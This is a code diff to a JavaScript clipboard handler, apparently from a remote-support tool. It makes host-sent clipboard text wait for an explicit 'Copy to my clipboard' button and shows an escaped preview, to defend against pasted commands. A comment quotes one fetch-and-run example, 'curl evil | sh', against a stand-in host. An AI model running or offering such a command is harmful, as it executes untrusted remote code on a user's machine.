@@ -7,26 +7,59 @@
 // host puts the text on its clipboard before it injects the keys after it).
 //
 // Host -> agent: a {t: "clip"} from the view process is the host's user's
-// clipboard. navigator.clipboard.writeText needs a user gesture, so the text
-// waits for the agent's next click or key press in the page, then goes on
-// the browser's clipboard; a short notice says so. The text is never shown.
+// clipboard, a stranger's text ("curl evil | sh\n" that the agent would then
+// paste in their own terminal). It goes on the browser's clipboard only when
+// the agent presses "Copy to my clipboard" (clipfix39; that click is also the
+// gesture navigator.clipboard.writeText needs): never on any other click or
+// key. The offer shows a preview, textContent only, its controls escaped.
 
 export const MAX_CLIP_BYTES = 64 * 1024; // transport/session/clipboard.py
+export const PREVIEW_CHARS = 200;
 
 const plural = (n) => `${n} character${n === 1 ? "" : "s"}`;
 const chars = (text) => [...text].length; // as Python counts them
+const NAMED = { "\n": "\\n", "\r": "\\r", "\t": "\\t" };
+// Controls, format characters (bidi overrides, zero-width), private use,
+// lone surrogates and line/paragraph separators: shown as escapes, so the
+// agent sees the newline that would run a command, not a line break.
+const HIDDEN = /[\p{Cc}\p{Cf}\p{Co}\p{Cs}\p{Zl}\p{Zp}]/gu;
+const escapeHidden = (s) =>
+  s.replace(HIDDEN, (c) => NAMED[c] || `\\u{${c.codePointAt(0).toString(16)}}`);
+
+// The first PREVIEW_CHARS code points of `text`, escaped, "..." if cut.
+export function clipPreview(text) {
+  const points = [...text];
+  const cut = points.length > PREVIEW_CHARS;
+  return escapeHidden(points.slice(0, PREVIEW_CHARS).join("")) + (cut ? "..." : "");
+}
 
 export class PageClipboard {
   constructor(send, notice) {
     this.send = send;
     this.notice = notice;
-    this.pending = null; // the host's text waiting for a gesture
+    this.pending = null; // the host's text offered, not taken
     this.copied = 0; // texts of the host's put on the browser's clipboard
     this.sent = 0; // texts of the agent's sent to the host
-    const deliver = () => this.deliver();
-    // Capture phase: before input.js or the page's own handlers act on it.
-    addEventListener("pointerdown", deliver, true);
-    addEventListener("keydown", deliver, true);
+    this.offer = document.createElement("div");
+    this.offer.id = "clip-offer";
+    this.offer.setAttribute("role", "dialog");
+    this.offer.setAttribute("aria-label", "The host's clipboard");
+    this.offer.hidden = true;
+    this.head = document.createElement("p");
+    this.preview = document.createElement("pre");
+    this.preview.id = "clip-preview";
+    const take = document.createElement("button");
+    take.id = "clip-take";
+    take.type = "button";
+    take.textContent = "Copy to my clipboard";
+    take.onclick = () => this.take();
+    const drop = document.createElement("button");
+    drop.id = "clip-dismiss";
+    drop.type = "button";
+    drop.textContent = "Dismiss";
+    drop.onclick = () => this.dismiss();
+    this.offer.append(this.head, this.preview, take, drop);
+    document.body.append(this.offer);
   }
 
   // The paste's text: sent, and true if the key that made it should go on.
@@ -41,25 +74,38 @@ export class PageClipboard {
     return true;
   }
 
-  // The host's user sent their clipboard.
+  // The host's user sent their clipboard: offered, not written.
   fromHost(text, reason) {
     this.pending = text;
     const how = reason === "sync" ? "copied while you control their screen" : "sent by the user";
-    this.notice(`The host's clipboard (${plural(chars(text))}, ${how}): click or press a key here to copy it to yours`);
+    const head = `The host's clipboard (${plural(chars(text))}, ${how})`;
+    this.head.textContent = `${head}:`;
+    this.preview.textContent = clipPreview(text);
+    this.offer.hidden = false;
+    this.notice(`${head}: "Copy to my clipboard" puts it on yours`);
   }
 
-  deliver() {
-    const text = this.pending;
-    if (text === null || !navigator.clipboard) return;
+  dismiss() {
     this.pending = null;
+    this.offer.hidden = true;
+  }
+
+  // The agent's click on "Copy to my clipboard": the one way it is written.
+  take() {
+    const text = this.pending;
+    if (text === null) return;
+    if (!navigator.clipboard) {
+      this.notice("The host's clipboard could not be copied here (this page may not use the clipboard)");
+      return;
+    }
     navigator.clipboard.writeText(text).then(
       () => {
+        if (this.pending === text) this.dismiss();
         this.copied += 1;
         this.notice(`The host's clipboard (${plural(chars(text))}) is on your clipboard`);
       },
       (e) => {
-        this.pending = text; // the next gesture tries again
-        this.notice(`The host's clipboard could not be copied here (${String(e && e.name).slice(0, 40)}): click the page to try again`);
+        this.notice(`The host's clipboard could not be copied here (${String(e && e.name).slice(0, 40)}): press the button to try again`);
       },
     );
   }
